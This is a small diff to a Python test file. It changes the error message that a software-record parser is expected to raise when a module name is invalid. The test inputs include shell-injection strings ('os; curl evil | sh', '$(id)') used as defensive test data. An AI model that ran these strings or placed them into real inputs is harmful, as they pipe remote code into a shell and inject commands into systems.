@@ -249,7 +249,7 @@ def test_a_reply_is_data() -> None:
     assert (told.program.path, told.program.problem.visible(), told.workdir) == ("/job/train.py", "\\x1b", None)
     for name in ("os; curl evil | sh", "$(id)", "a.b-c"):
         program = {"module": "", "asked_module": "", "needed": [], "imports": {}, "missing": [name]}
-        with pytest.raises(ValueError, match="can't be read"):
+        with pytest.raises(ValueError, match="can't be parsed"):
             parse_software(_said({**RECORDED, "program": program}))
 
 
